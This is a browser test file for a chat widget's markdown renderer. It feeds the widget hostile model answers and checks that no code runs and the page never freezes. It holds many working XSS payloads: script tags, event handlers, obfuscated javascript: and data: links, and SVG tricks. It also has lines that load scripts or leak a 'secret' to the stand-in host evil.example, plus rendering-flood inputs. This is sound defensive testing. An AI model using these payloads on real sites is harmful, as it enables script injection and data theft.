/** Answers that want to run code, reach other hosts or freeze the page, through the real protocol, stored and streamed. */
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";

import { launchBrowser } from "./browser.js";
import { mostWorkAtOnce } from "./busy.js";
import { accepted, added, delta, done, options, reply, startScripted } from "./scripted.js";
import { openStrictPage } from "./strict-page.js";

const stage = { browser: undefined, server: { origin: "", output: () => "" } };
before(async () => {
  stage.browser = await launchBrowser();
});
after(() => stage.browser?.close());

/** A page that does so many units of work without coming to its own timer would be frozen for a person. See `mostWorkAtOnce`. */
const FROZEN_UNITS = 15;
/** A flood on a slow and busy machine. */
const PATIENCE_MS = 120_000;

const RUN = "window.pwned=1";
const ATTACKS = {
  "script tags": `<script>${RUN}</script>\n\n<script src="https://evil.example/x.js"></script>\n\ntext <script>${RUN}</script> text\n\n- <script>${RUN}</script>\n\n> <script>${RUN}\n\n</script>`,
  "event handlers": `<img src=x onerror=${RUN}>\n\n<svg onload=${RUN}>\n\n<body onload=${RUN}><details open ontoggle=${RUN}>\n\n<input autofocus onfocus=${RUN}>\n\ntext <img src=x onerror="${RUN}"> text`,
  "javascript: links": [
    `[a](javascript:${RUN})`,
    `[a](JaVaScRiPt:${RUN})`,
    `[a](&#106;avascript:${RUN})`,
    `[a](&#x6A;avascript&colon;${RUN})`,
    `[a](java&Tab;script:${RUN})`,
    `[a](<java\tscript:${RUN}>)`,
    `[a](< javascript:${RUN}>)`,
    `[a](\\javascript:${RUN})`,
    `[a](javascript&#58;${RUN})`,
    `<javascript:${RUN}>`,
    `[a][x]\n\n[x]: javascript:${RUN}`,
    `![a](javascript:${RUN})`,
    `[a](vbscript:${RUN})`,
    `[a](\u0001javascript:${RUN})`,
    `[a](javascript://example.com/%0a${RUN})`,
    `[a](blob:https://evil.example/1)`,
    `[a](file:///etc/passwd)`,
    `[![a](javascript:${RUN})](javascript:${RUN})`,
  ].join("\n\n"),
  "data: links": `[a](data:text/html,<script>${RUN}</script>)\n\n[a](DATA:text/html;base64,PHNjcmlwdD4=)\n\n![a](data:text/html,<script>${RUN}</script>)\n\n![a](data:image/svg+xml,<svg onload=${RUN}>)`,
  "SVG and MathML": `<svg><script>${RUN}</script></svg>\n\n<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>\n\n<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>\n\n<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  "HTML inside of markdown inside of HTML": `<div>\n\n**<img src=x onerror=${RUN}>**\n\n</div>\n\n| <img src=x onerror=${RUN}> | b |\n|---|---|\n| <a href="javascript:${RUN}">a</a> | \`<script>${RUN}</script>\` |\n\n# <iframe src="javascript:${RUN}">\n\n<!-- <img src=x onerror=${RUN}> -->\n\n<![CDATA[<script>${RUN}</script>]]>`,
  "code fences": `\`\`\`<img src=x onerror=${RUN}>\n</code></pre><script>${RUN}</script>\n\`\`\`\n\n\`\`\`html"onmouseover="${RUN}\n<script>${RUN}</script>\n\`\`\`\n\n\`\`\`js __proto__\nx\n\`\`\`\n\n\`\`\`constructor\nx\n\`\`\``,
  "styles, ids, names and forms": `<style>*{display:none}</style>\n\n<p style="position:fixed;inset:0" id="ck" name="body">x</p>\n\n<form action="https://evil.example"><input name=q><button>x</button></form>\n\n<base href="https://evil.example/">\n\n<meta http-equiv="refresh" content="0;url=https://evil.example">\n\n<link rel=stylesheet href="https://evil.example/x.css">`,
  "images that report": `![x](https://evil.example/pixel.gif?q=secret)\n\n![x][p]\n\n[p]: https://evil.example/p.gif\n\n<img src="https://evil.example/y.gif">\n\n[![x](https://evil.example/z.gif)](https://evil.example)`,
  "prototypes": "[__proto__]: /a\n[constructor]: /b\n\n[__proto__] [constructor] [toString][] &constructor; &toString;",
};

const ELEMENTS = "a blockquote br button code del div em h3 h4 h5 h6 hr img li ol p pre span strong table tbody td th thead tr ul ck-markdown".split(" ");
const ATTRIBUTES = "alt aria-label class data-citation data-deep-link data-language dir href loading referrerpolicy rel role scope src start tabindex target type".split(" ");

/** Runs in the page: what an answer has no right to be. */
function foreignParts([elements, attributes]) {
  const found = [];
  for (const markdown of document.querySelector("openai-chatkit").shadowRoot.querySelectorAll("ck-markdown"))
    for (const node of [markdown, ...markdown.querySelectorAll("*")]) {
      if (!elements.includes(node.localName)) found.push(node.outerHTML);
      for (const { name, value } of node.attributes) if (!attributes.includes(name)) found.push(`${node.localName} ${name}=${value}`);
      if (node.localName === "a" && !["http:", "https:", "mailto:", "tel:", "chatkit-link:"].includes(node.protocol)) found.push(node.href);
      if (node.localName === "img" && !/^data:image\//.test(node.src)) found.push(node.src);
    }
  if (window.pwned) found.push("code has run");
  return found;
}

describe("a hostile answer", { concurrency: 3 }, () => {
  for (const [name, text] of Object.entries(ATTACKS))
    test(`runs no code: ${name}`, async (t) => {
      const { server, chat } = await start(t, text);
      for (const isStored of [false, true]) {
        const { page, strays } = isStored ? await openStrictPage(t, stage, server.origin, { query: "?thread=thr_1" }) : chat;
        if (!isStored) await ask(page);
        await page.locator("ck-markdown").first().waitFor();
        // An id, a name or a handler that came in would show once everything is clicked.
        await page.evaluate(() => {
          for (const link of document.querySelector("openai-chatkit").shadowRoot.querySelectorAll("ck-markdown a")) link.addEventListener("click", (event) => event.preventDefault());
          for (const node of document.querySelector("openai-chatkit").shadowRoot.querySelectorAll("ck-markdown *")) for (const type of ["pointerover", "focus", "load", "error", "toggle"]) node.dispatchEvent(new Event(type));
        });
        assert.deepEqual(await page.evaluate(foreignParts, [ELEMENTS, ATTRIBUTES]), []);
        assert.deepEqual(strays, []);
        assert.equal(page.url().startsWith(server.origin), true);
      }
    });
});

const repeat = (text, length) => text.repeat(Math.ceil(length / text.length)).slice(0, length);
const FLOODS = {
  "a word of 1 MB": ["x".repeat(1_000_000), 20_000],
  "a line of code of 1 MB": [`\`\`\`\n${"x".repeat(1_000_000)}`, 20_000],
  "a block of code that never ends": [`\`\`\`js\n${repeat("let a = 1; // b\n", 1_000_000)}`, 20_000],
  "10,000 nested quotes": [`${">".repeat(10_000)} a\n\n${"> ".repeat(10_000)}a`, 500],
  "10,000 nested lists": [`${"- ".repeat(10_000)}a\n\n${Array.from({ length: 400 }, (_, index) => `${" ".repeat(index * 2)}- a`).join("\n")}`, 2_000],
  "10,000 brackets": [`${"[".repeat(10_000)}a${"]".repeat(10_000)}\n\n${"![a](".repeat(5_000)}\n\n${"[a](<".repeat(5_000)}`, 500],
  "10,000 stars, lines and ticks": [`${"*a **b ".repeat(5_000)}\n\n${"_a".repeat(5_000)}\n\n${"*".repeat(10_000)}a${"*".repeat(10_000)}\n\n${"`a``b".repeat(3_000)}\n\n${"~~a".repeat(4_000)}`, 500],
  "a table of 20,000 rows": [`| a | b |\n|---|---|\n${"| c | d |\n".repeat(20_000)}`, 10_000],
  "50,000 line ends and rulers": [`${"a\n".repeat(20_000)}\n\n${"---\n".repeat(10_000)}${"# a\n".repeat(10_000)}`, 10_000],
  "10,000 definitions and references": [`${Array.from({ length: 10_000 }, (_, index) => `[x${index}] `).join("\n\n")}\n\n${Array.from({ length: 10_000 }, (_, index) => `[x${index}]: /u${index}`).join("\n")}`, 10_000],
};

describe("a flood", () => {
  for (const [name, [text, size]] of Object.entries(FLOODS))
    test(`does not freeze the page: ${name}`, async (t) => {
      const { server, chat } = await start(t, text, size);
      await staysUsable(t, chat.page, () => ask(chat.page));
      const { page } = await openStrictPage(t, stage, server.origin);
      await staysUsable(t, page, async () => {
        await page.evaluate(() => document.querySelector("openai-chatkit").setThreadId("thr_1"));
        await rendered(page);
      });
      const length = await page.evaluate(() => document.querySelector("openai-chatkit").shadowRoot.querySelector("ck-markdown").textContent.length);
      assert.ok(length >= Math.min(text.length / 10, 5_000), `${length} characters`);
    });

  test("does not freeze the page: 100,000 tokens", async (t) => {
    const token = (index) => (index % 40 === 39 ? ".\n\n" : index % 40 === 0 ? "The" : index % 17 === 0 ? " **bold**" : ` word${index % 100}`);
    const text = Array.from({ length: 100_000 }, (_, index) => token(index)).join("");
    const { chat } = await start(t, text, 6);
    await staysUsable(t, chat.page, () => ask(chat.page));
    const shown = await chat.page.evaluate(() => document.querySelector("openai-chatkit").shadowRoot.querySelector("ck-markdown").textContent.replace(/\s+/g, ""));
    assert.equal(shown, text.replace(/\*\*|\s+/g, ""));
  });
});

for (const component of ["Text", "Markdown"])
  test(`a widget whose ${component} never ends does not freeze the page, and Stop ends it`, async (t) => {
    const widget = { type: "Card", children: [{ type: component, id: "endless", value: "", streaming: true }] };
    const item = { ...reply("", "wid_1"), type: "widget", widget };
    const grow = (text) => ({ type: "thread.item.updated", item_id: "wid_1", update: { type: "widget.streaming_text.value_delta", component_id: "endless", delta: text, done: false } });
    let length = 0;
    const server = await startScripted(async (post) => {
      if (!post.params.input) return "default";
      post.reply.events(...accepted(post), options(), added(item));
      for (; !post.reply.isClosed; length += 20_000) {
        post.reply.events(...Array.from({ length: 500 }, (_, index) => grow(`word ${String(index).padEnd(34)}\n`)));
        await new Promise((resolve) => setTimeout(resolve, 5));
      }
    });
    t.after(() => server.stop());
    const { page } = await openStrictPage(t, stage, server.origin);
    await page.locator("[data-input]").fill("Hello");
    await page.getByRole("button", { name: "Send message", exact: true }).click();
    await page.locator("ck-widget").getByText("word 7").first().waitFor();
    await staysUsable(t, page, async () => {
      const before = length;
      while (length < before + 2_000_000) await type(page);
      await page.getByRole("button", { name: "Stop", exact: true }).click();
      await ended(page);
    });
  });

/** A server that answers with the text in parts of `size`, and a page at it. */
async function start(t, text, size = 7) {
  const server = await startScripted(async (post) => {
    if (!post.params.input) return "default";
    const item = reply(text);
    post.reply.events(...accepted(post), options(), added(reply("")));
    for (let at = 0; at < text.length; ) {
      // Many events in one write, as a fast model's are read.
      const parts = [];
      for (let length = 0; at < text.length && length < 20_000 && parts.length < 500; at += size) {
        parts.push(delta(item.id, text.slice(at, at + size)));
        length += size;
      }
      post.reply.events(...parts);
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
    server.items = [item];
    post.reply.events(done(item)).end();
  });
  t.after(() => server.stop());
  return { server, chat: await openStrictPage(t, stage, server.origin) };
}

/** Asks and waits until the whole answer is there. */
async function ask(page) {
  await page.locator("[data-input]").fill("Hello");
  await page.getByRole("button", { name: "Send message", exact: true }).click();
  await ended(page);
  await rendered(page);
}

async function ended(page) {
  await page.waitForFunction(() => window.chatEvents.some(({ name }) => name === "response.end"), undefined, { timeout: PATIENCE_MS });
}

/** A long text is rendered in several tasks. */
async function rendered(page) {
  const isRendered = () => {
    const markdown = document.querySelector("openai-chatkit").shadowRoot.querySelector("ck-markdown");
    return markdown?.firstElementChild && !markdown.isOpen && !markdown.isUpdatePending && !markdown.timer;
  };
  await page.waitForFunction(isRendered, undefined, { timeout: PATIENCE_MS });
}

async function type(page) {
  await page.locator("[data-input]").fill("Still here?", { timeout: PATIENCE_MS });
}

/** Tests that the page can be used while `work` runs and behind it. */
async function staysUsable(t, page, work) {
  const most = await mostWorkAtOnce(stage.browser, page, async () => {
    await work();
    await type(page);
  });
  t.diagnostic(`at most ${most.toFixed(1)} units of work at once`);
  assert.ok(most < FROZEN_UNITS, `${most.toFixed(1)} units of work at once`);
}
